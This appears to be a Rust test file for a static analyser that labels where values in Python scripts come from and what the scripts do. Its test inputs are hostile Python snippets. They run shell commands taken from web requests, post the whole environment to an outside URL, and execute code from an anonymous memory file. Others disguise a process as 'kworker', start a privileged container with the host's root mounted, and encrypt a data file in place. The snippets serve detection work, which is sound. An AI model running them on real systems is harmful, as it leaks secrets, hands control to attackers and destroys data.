//! Where values come from: requests, the environment, memory, the runtime's library.

use model::Provenance;

use super::*;

/// The sources of the code that a script evaluates first.
fn code_from(script: &str) -> Vec<Provenance> {
    let acts = lowered(script).acts;
    let mut codes = acts.into_iter().filter_map(|act| match act.behavior {
        Behavior::Evaluate { code, .. } => Some(code.from),
        _ => None,
    });
    codes.next().unwrap_or_default()
}

fn is_request(script: &str) -> bool {
    code_from(script)
        .iter()
        .any(|from| matches!(from, Provenance::Request(_)))
}

#[test]
fn requests_are_told_by_the_frameworks_that_answer_them() {
    for script in [
        "from flask import request\nimport os\nos.system(request.args.get('c'))",
        "import flask, os\nos.popen(flask.request.headers['X'])",
        "from bottle import request\nexec(request.forms.get('c'))",
        "import os\ndef view(request):\n    os.system(request.POST['c'])",
        "import os\n@app.get('/x')\ndef x(c: str = 'id'):\n    os.system(c)",
        "import cgi, os\nos.system(cgi.FieldStorage()['c'].value)",
        "import os\nos.system(os.environ['QUERY_STRING'])",
    ] {
        assert!(is_request(script), "{script}");
    }
    for script in [
        "import os\ndef run(command):\n    os.system(command)",
        "import os\n@cache('x')\ndef run(command):\n    os.system(command)",
        "import os, requests\nos.system(requests.get('https://example.com/').text)",
    ] {
        assert!(!is_request(script), "{script}");
    }
}

#[test]
fn the_environment_is_one_source() {
    for script in [
        "import os, requests\nrequests.post('https://example.com/', data=str(os.environ))",
        "import os, requests\nrequests.post('https://example.com/', json=dict(os.environ))",
        "import os, requests\nrequests.post('https://example.com/', json={k: v for k, v in os.environ.items()})",
    ] {
        let sent = lowered(script)
            .acts
            .into_iter()
            .any(|act| match act.behavior {
                Behavior::Send { data, .. } => {
                    data.from.contains(&Provenance::Environment(String::new()))
                }
                _ => false,
            });
        assert!(sent, "{script}");
    }
}

#[test]
fn memory_names_and_containers() {
    check_among(&[
        (
            "import os\nf = os.memfd_create('x')\nos.execv(f, ['x'])",
            &["execute /proc/self/fd/{?}"],
        ),
        (
            "import ctypes\nctypes.CDLL(None).prctl(15, b'kworker\\0', 0, 0, 0)",
            &["NameProcess { name: Value { text: \"kworker\""],
        ),
        (
            "import docker\ndocker.from_env().containers.run('a', '/app/run', volumes={'/': {'bind': '/m', 'mode': 'rw'}}, privileged=True)",
            &[
                "execute docker run -v /:/m:rw --privileged a /app/run",
                "execute /app/run <",
            ],
        ),
        (
            "import json, requests\nrequests.post('http://h/', data=json.dumps({'a': [1, True, None, 'x\"y']}))",
            &["send#1 {\"a\": [1, true, null, \"x\\\"y\"]}"],
        ),
    ]);
}

#[test]
fn what_is_encrypted_says_so() {
    let script = "from cryptography.fernet import Fernet\nd = open('/data/a').read()\nopen('/data/a', 'w').write(Fernet(k).encrypt(d))";
    let written = lowered(script)
        .acts
        .into_iter()
        .any(|act| match act.behavior {
            Behavior::Write { content, .. } => {
                content.was_encrypted()
                    && content
                        .from
                        .contains(&Provenance::File("/data/a".to_owned()))
            }
            _ => false,
        });
    assert!(written);
}
